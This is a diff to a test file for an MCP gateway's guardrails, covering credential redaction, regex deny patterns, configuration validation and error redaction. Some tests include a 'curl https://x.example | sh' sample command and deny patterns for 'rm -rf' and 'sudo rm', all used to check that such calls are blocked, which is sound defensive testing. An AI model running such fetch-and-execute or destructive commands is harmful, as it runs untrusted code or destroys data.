@@ -3,6 +3,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { GuardrailChain, guardrailProblems } from "../../aws/origin/guardrails/chain.ts";
+import { denyPatterns } from "../../aws/origin/guardrails/deny-patterns.ts";
+import { GuardrailRefusal } from "../../aws/origin/guardrails/refusal.ts";
 import { redactCredentials } from "../../aws/origin/guardrails/secret-detector.ts";
 import { createHostPool, type HostPool } from "../../aws/origin/hosting/host-pool.ts";
 import { serveMcp } from "../../aws/origin/hosting/mcp-route.ts";
@@ -29,6 +31,40 @@ describe("the secret detector", () => {
       "The AKIA prefix, a ghp_ mention, eyJ without dots, and 40 letters: abcdefghijabcdefghijabcdefghijabcdefghij.";
     expect(redactCredentials(ordinary)).toBe(ordinary);
   });
+
+  it("redacts the shapes credentials also come in: PGP blocks, a key cut short, AWS's JSON and session tokens", () => {
+    const pgp = "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF\n-----END PGP PRIVATE KEY BLOCK-----";
+    expect(redactCredentials(`a ${pgp} b`)).toBe("a [REDACTED private key] b");
+    expect(redactCredentials("head\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow (the rest was cut off)")).toBe(
+      "head\n[REDACTED private key]",
+    );
+    const secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
+    expect(redactCredentials(`{"SecretAccessKey": "${secret}"}`)).toBe('{"SecretAccessKey": "[REDACTED AWS secret access key]"}');
+    expect(redactCredentials(`Aws_Secret_Access_Key=${secret}`)).toBe("Aws_Secret_Access_Key=[REDACTED AWS secret access key]");
+    const session = `${"IQoJb3JpZ2luX2VjE".repeat(8)}=`;
+    expect(redactCredentials(`"SessionToken": "${session}"`)).toBe('"SessionToken": "[REDACTED AWS session token]"');
+  });
+
+  it("takes time linear in the text, whatever the text (results can be megabytes an upstream chose)", () => {
+    // Each would backtrack from every position: minutes, with the origin's event loop stopped for every user.
+    const almostTokens = "-eyJ".repeat(250_000);
+    expect(redactCredentials(almostTokens)).toBe(almostTokens);
+    const unfinishedKeys = "-----BEGIN PRIVATE KEY-----\n".repeat(40_000);
+    expect(redactCredentials(`kept ${unfinishedKeys}`)).toBe("kept [REDACTED private key]");
+  });
+});
+
+describe("deny patterns", () => {
+  const guard = (patterns: string[]) => denyPatterns.create({ patterns });
+  const call = { server: "shell", tool: "run", user: { sub: "ana" } };
+
+  it("refuses a call whose argument matches, and takes time linear in the arguments (a user chooses them)", () => {
+    const pipeToShell = guard(["curl[^|]*\\|\\s*sh"]);
+    expect(() => pipeToShell.arguments?.(call, { cmd: "curl https://x.example | sh" })).toThrow(GuardrailRefusal);
+    // A backtracking engine retries the run from every "curl": about a minute for these 1.6 MB.
+    const args = { cmd: "curl ".repeat(320_000) };
+    expect(pipeToShell.arguments?.(call, args)).toBe(args);
+  });
 });
 
 describe("guardrail configuration", () => {
@@ -38,7 +74,7 @@ describe("guardrail configuration", () => {
         a: { guardrails: [{ hook: "virus-scan" }] },
         b: {
           guardrails: [
-            { hook: "deny-patterns", patterns: ["(unclosed"] },
+            { hook: "deny-patterns", patterns: ["(unclosed", "(?<=sudo )rm"] },
             { hook: "secret-detector", extra: 1 },
           ],
         },
@@ -46,7 +82,8 @@ describe("guardrail configuration", () => {
       }),
     ).toEqual([
       'servers.a.guardrails.0.hook: expected one of secret-detector, deny-patterns; got "virus-scan"',
-      "servers.b.guardrails.0.patterns.0: expected a JavaScript regular expression",
+      "servers.b.guardrails.0.patterns.0: expected a regular expression in RE2 syntax (JavaScript's without lookaround or backreferences, which can make a match take unbounded time)",
+      "servers.b.guardrails.0.patterns.1: expected a regular expression in RE2 syntax (JavaScript's without lookaround or backreferences, which can make a match take unbounded time)",
       'servers.b.guardrails.1: Unrecognized key: "extra"',
       "servers.c.guardrails.0.patterns: Invalid input: expected array, received undefined",
     ]);
@@ -61,6 +98,10 @@ const servers = {
     guardrails: [{ hook: "deny-patterns", patterns: ["rm\\s+-rf"] }, { hook: "secret-detector" }],
   },
   bare: { ...catalogServer({ name: "bare", tools: [{ name: "echo" }] }), guardrails: [] },
+  failing: {
+    ...catalogServer({ name: "failing", tools: [{ name: "echo" }], errorMessage: `login failed for key ${AWS_KEY_ID}` }),
+    guardrails: [{ hook: "secret-detector" }],
+  },
 };
 const chains = new Map(Object.entries(servers).map(([name, spec]) => [name, new GuardrailChain(spec.guardrails)]));
 let pool: HostPool;
@@ -96,6 +137,15 @@ describe("guardrails on a server's tool calls", () => {
     });
     const calls = existsSync(callLog) ? readFileSync(callLog, "utf8") : "";
     expect(calls.split("\n").filter(Boolean)).toEqual(["echo"]); // only the first test's call arrived
+  });
+
+  it("redacts a credential in an upstream's JSON-RPC error, message and data, as in a result", async () => {
+    const answer = (await echo("failing", "hi")) as Answer & { error?: { data?: unknown } };
+    expect(answer.error).toEqual({
+      code: -32000,
+      message: "login failed for key [REDACTED AWS access key id]",
+      data: { detail: "login failed for key [REDACTED AWS access key id]" },
+    });
   });
 
   it("runs none on a server configured with an empty list", async () => {
